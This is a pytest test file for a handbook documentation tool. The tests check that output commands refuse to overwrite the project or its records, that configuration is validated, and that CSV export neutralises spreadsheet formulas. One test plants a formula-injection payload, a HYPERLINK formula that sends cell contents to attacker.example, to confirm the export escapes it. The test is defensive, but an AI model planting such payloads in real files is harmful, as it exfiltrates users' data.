"""No command may destroy the collection: every output target is checked (issue 12, H3 / M6 / M7).

Each test works on a copy of the project in a temp folder and checks that a refused
command printed one line, exited 1 and left every file as it was.
"""

from __future__ import annotations

import csv
import gzip
import hashlib
import io
import json
import shutil
from pathlib import Path

import pytest

from conftest import copy_handbook, run_handbook, set_plugin_options
from handbook.config import DEFAULTS, ConfigError, HandbookOptions, read_options
from handbook.export import export_files
from handbook.load.loader import load_collection
from handbook.output_guard import MARKER, OutputRefused, check_file, check_folder

REPO = Path(__file__).resolve().parent.parent


def snapshot(folder: Path) -> dict[str, str]:
    """Every file and folder under `folder` (the project and its parent), with a digest of each file."""
    out = {}
    for path in sorted(folder.rglob("*")):
        if ".cache" in path.parts:
            continue
        key = path.relative_to(folder).as_posix()
        out[key] = hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() and not path.is_symlink() else "dir"
    return out


def assert_one_line_refusal(result, *words: str) -> None:
    assert result.returncode == 1, result.stdout + result.stderr
    assert "Traceback" not in result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), result.stderr
    for word in words:
        assert word in lines[0], result.stderr


@pytest.fixture
def project(tmp_path) -> Path:
    """A copy of the handbook inside a folder of its own, so its parent can be watched too."""
    return copy_handbook(tmp_path / "outer" / "handbook")


# The review's reproductions (H3): each of these deleted records, the project, or crashed.
DESTRUCTIVE = [
    ("export", "--out", "cases"),
    ("export", "--out", "."),
    ("export", "--out", "{root}"),
    ("export", "--out", "cases/sources"),
    ("build", "--site-dir", "cases"),
    ("build", "--site-dir", "{root}"),
    ("build", "--site-dir", ".."),
    ("build", "--site-dir", "../.."),
    ("build", "--site-dir", "/"),
    ("build", "--site-dir", "docs/site"),
    ("build", "--site-dir", "standards"),
    ("offline", "--zip", "cases/gucheng.yaml"),
    ("offline", "--zip", "mkdocs.yml"),
    ("release", "--dist", "."),
    ("release", "--dist", "overrides"),
    ("pdf", "--out", "docs"),
    ("pdf", "--out", ".."),
]


@pytest.mark.parametrize("args", DESTRUCTIVE, ids=" ".join)
def test_a_command_never_writes_over_the_project_or_its_records(project, args):
    outer = project.parent
    before = snapshot(outer)
    result = run_handbook(*(a.format(root=project) for a in args), cwd=project)
    assert_one_line_refusal(result)
    assert snapshot(outer) == before, "something was written, moved or deleted"


def test_a_folder_handbook_did_not_create_is_refused(project):
    notes = project / "notes"
    notes.mkdir()
    (notes / "minutes.txt").write_text("会议记录\n", encoding="utf-8")
    before = snapshot(project)
    for args in (("export", "--out", "notes"), ("build", "--site-dir", "notes")):
        assert_one_line_refusal(run_handbook(*args, cwd=project), "no .handbook-output")
    assert snapshot(project) == before


def test_outputs_of_handbook_before_markers_are_recognised(built_handbook, tmp_path):
    """Checkouts built before markers existed keep working: a site has t2s-map.js, which only handbook writes."""
    project = tmp_path / "handbook"
    shutil.copytree(built_handbook, project, symlinks=True)
    (project / "site" / MARKER).unlink()
    result = run_handbook("build", "--site-dir", "site", cwd=project)
    assert result.returncode == 0, result.stderr
    assert (project / "site" / MARKER).is_file()
    (project / "site" / MARKER).unlink()
    (project / "site" / "assets" / "javascripts" / "t2s-map.js").unlink()
    assert_one_line_refusal(run_handbook("build", "--site-dir", "site", cwd=project), "no .handbook-output")


def test_a_marked_folder_that_holds_records_is_still_refused(project):
    copy = project / "backup"
    shutil.copytree(project / "cases", copy)
    (copy / MARKER).write_text("", encoding="utf-8")  # a marker copied by mistake
    assert_one_line_refusal(run_handbook("export", "--out", "backup", cwd=project), "records or code")
    assert (copy / "gucheng.yaml").is_file()


def test_a_symlink_to_the_records_is_refused(project):
    (project / "public").symlink_to(project / "cases")
    before = snapshot(project / "cases")
    assert_one_line_refusal(run_handbook("build", "--site-dir", "public", cwd=project), "refusing")
    assert_one_line_refusal(run_handbook("export", "--out", "public/data", cwd=project), "cases/")
    assert snapshot(project / "cases") == before


def test_a_file_that_is_not_a_zip_is_never_overwritten(project):
    (project / "notes.zip").write_text("not a zip\n", encoding="utf-8")
    assert_one_line_refusal(run_handbook("offline", "--zip", "notes.zip", cwd=project), "not a zip")
    assert_one_line_refusal(run_handbook("offline", "--zip", "handbook.tar", cwd=project), "ending in .zip")
    assert (project / "notes.zip").read_text(encoding="utf-8") == "not a zip\n"
    assert not (project / "handbook.tar").exists()


def test_export_writes_a_new_folder_marks_it_and_replaces_only_it(project):
    first = run_handbook("export", "--out", "dist/data", cwd=project)
    assert first.returncode == 0, first.stderr
    data = project / "dist" / "data"
    assert (data / MARKER).is_file() and (project / "dist" / MARKER).is_file(), "created folders are marked"
    (data / "stale.csv").write_text("old\n", encoding="utf-8")
    again = run_handbook("export", "--out", "dist/data", cwd=project)
    assert again.returncode == 0, again.stderr
    assert not (data / "stale.csv").exists(), "the export is replaced as a whole"
    assert sorted(p.name for p in data.iterdir()) == sorted([MARKER, *export_files(load_collection(project))])
    assert not [p for p in (project / "dist").iterdir() if ".new-" in p.name or ".old-" in p.name]


def test_an_empty_folder_made_by_the_editor_is_accepted(project):
    (project / "public").mkdir()
    result = run_handbook("export", "--out", "public", cwd=project)
    assert result.returncode == 0, result.stderr
    assert (project / "public" / "cases.json").is_file()


def test_guard_functions_directly(tmp_path):
    root = copy_handbook(tmp_path / "p")
    assert check_folder(Path("site"), root) == root / "site"
    assert check_folder(Path("dist/../site"), root) == root / "site"
    assert check_file(Path("dist/x.zip"), root) == root / "dist" / "x.zip"
    for bad in (Path("."), Path(".."), root, Path("cases"), Path("cases/../standards"), Path("overrides/x")):
        with pytest.raises(OutputRefused):
            check_folder(bad, root)
    with pytest.raises(OutputRefused):
        check_folder(Path("records/x"), root, protected=("records",))  # a configured cases_dir


# --root and the content folders (M6)

@pytest.mark.parametrize("command", ["validate", "build", "export", "offline", "release"])
def test_a_missing_root_is_one_line(tmp_path, command):
    result = run_handbook(command, "--root", str(tmp_path / "nonexistent"), cwd=tmp_path)
    assert_one_line_refusal(result, "--root", "no such folder")
    assert list(tmp_path.iterdir()) == []


def test_a_mistyped_cases_dir_fails_validate_and_build_alike(project):
    set_plugin_options(project, cases_dir="casez")
    validate = run_handbook("validate", cwd=project)
    assert_one_line_refusal(validate, "plugins.handbook.cases_dir", "'casez'")
    build = run_handbook("build", "--site-dir", "site", cwd=project)
    assert_one_line_refusal(build, "plugins.handbook.cases_dir", "'casez'")
    assert not (project / "site").exists()


def test_mkdocs_itself_refuses_a_missing_cases_dir(project):
    import subprocess
    import sys

    set_plugin_options(project, standards_dir="standardz")
    result = subprocess.run([sys.executable, "-m", "mkdocs", "build", "--strict", "--site-dir", str(project / "out")],
                            cwd=project, capture_output=True, text=True, timeout=300)
    assert result.returncode == 1
    assert "plugins.handbook.standards_dir: expected a folder of records, got 'standardz'" in result.stderr


def test_validate_and_build_read_the_folders_mkdocs_yml_names(project):
    (project / "cases").rename(project / "records")
    set_plugin_options(project, cases_dir="records")
    validate = run_handbook("validate", cwd=project)
    assert validate.returncode == 0, validate.stderr
    cases = len(load_collection(REPO).cases)
    assert validate.stdout.startswith(f"ok: {cases} cases"), validate.stdout
    export = run_handbook("export", "--out", "out", cwd=project)
    assert export.returncode == 0, export.stderr
    assert len(json.loads((project / "out" / "cases.json").read_text(encoding="utf-8"))) == cases
    assert_one_line_refusal(run_handbook("export", "--out", "records/x", cwd=project), "records/")


def test_removed_folders_fail_validate(project):
    shutil.rmtree(project / "cases")
    shutil.rmtree(project / "standards")
    result = run_handbook("validate", cwd=project)
    assert result.returncode == 1
    assert "cases_dir: expected a folder of records, got 'cases'" in result.stderr
    assert "standards_dir: expected a folder of records, got 'standards'" in result.stderr
    assert "ok:" not in result.stdout


def test_an_empty_collection_never_replaces_a_published_one(built_handbook, tmp_path):
    project = tmp_path / "handbook"
    shutil.copytree(built_handbook, project, symlinks=True)
    before = snapshot(project / "site")
    for record in (project / "cases").glob("*.yaml"):
        if record.name != "edition.yaml":
            record.unlink()
    result = run_handbook("build", "--site-dir", "site", cwd=project)
    assert_one_line_refusal(result, "expected case records, found none", "empty handbook")
    assert snapshot(project / "site") == before


# One place for options (issue 13)

def test_options_are_read_from_mkdocs_yml_with_its_tags(tmp_path, monkeypatch):
    text = (REPO / "mkdocs.yml").read_text(encoding="utf-8")
    assert "!ENV" in text and "!!python/object/apply" in text
    assert read_options(REPO) == DEFAULTS
    (tmp_path / "mkdocs.yml").write_text(text, encoding="utf-8")
    set_plugin_options(tmp_path, cases_dir="!ENV [HB_CASES, cases]", list_page_size=7)
    monkeypatch.setenv("HB_CASES", "records")
    assert read_options(tmp_path) == HandbookOptions(cases_dir="records", list_page_size=7)


@pytest.mark.parametrize("options, message", [
    ("cases_dir: 3", "plugins.handbook.cases_dir: expected str, got 3"),
    ("list_page_size: yes", "plugins.handbook.list_page_size: expected int, got True"),
    ("case_dir: x", "plugins.handbook.case_dir: expected one of cases_dir"),
])
def test_wrong_options_are_named(tmp_path, options, message):
    (tmp_path / "mkdocs.yml").write_text(f"site_name: x\nplugins:\n  - search\n  - handbook:\n      {options}\n", encoding="utf-8")
    with pytest.raises(ConfigError, match=message.replace("(", r"\(")):
        read_options(tmp_path)


def test_the_plugin_declares_its_options_from_the_one_definition():
    from handbook.mkdocs_plugin import HandbookConfig

    declared = {name: option.default for name, option in HandbookConfig._schema}
    assert declared == {name: getattr(DEFAULTS, name) for name in DEFAULTS.__dataclass_fields__}


# Build date (L3) and CSV (M7)

def test_a_far_future_history_date_is_bounded_to_now(tmp_path, monkeypatch):
    import datetime as dt
    import time

    import handbook.build as build

    epoch = int(build.history_epoch(dt.date(9999, 12, 31)))
    assert 0 < epoch <= time.time()
    with gzip.GzipFile(fileobj=io.BytesIO(), mode="wb", mtime=epoch) as archive:  # what crashed the build
        archive.write(b"x")


def test_csv_cells_that_would_run_as_formulas_are_defused(fixture_project):
    record = fixture_project / "cases" / "sample.yaml"
    text = record.read_text(encoding="utf-8")
    text = text.replace("model: 联合党委", "model: =1+2", 1)
    text = text.replace("label: 组建联合党委的乡镇", "label: \"@SUM(1+1)\"", 1)
    text = text.replace("doubt: 示例：演示存疑数字的呈现方式。", "doubt: '=HYPERLINK(\"http://attacker.example/?d=\"&A2,\"核对\")'", 1)
    text = text.replace("label: 参与基层治理的驻地单位党员", "label: \"-2+3\"", 1)
    record.write_text(text, encoding="utf-8")
    files = export_files(load_collection(fixture_project))
    cases = list(csv.DictReader(io.StringIO(files["cases.csv"].decode("utf-8-sig"))))
    metrics = list(csv.DictReader(io.StringIO(files["metrics.csv"].decode("utf-8-sig"))))
    assert cases[0]["model"] == "'=1+2"
    assert [m["label"] for m in metrics][:2] == ["'@SUM(1+1)", "'-2+3"]
    assert metrics[2]["doubt"].startswith("'=HYPERLINK(")
    assert [m["value"] for m in metrics] == ["12", "3.5", "40"], "numbers stay numbers"
    cells = [cell for rows in (cases, metrics) for row in rows for cell in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert json.loads(files["cases.json"])[0]["model"] == "=1+2", "JSON keeps the value as written"


def test_negative_numbers_stay_numbers():
    from handbook.export import _cell

    assert _cell(-3.5) == -3.5 and _cell(-2) == -2
    assert _cell("-3.5") == "'-3.5" and _cell("\t=1") == "'\t=1" and _cell("\r=1") == "'\r=1"
    assert _cell("约3万") == "约3万"
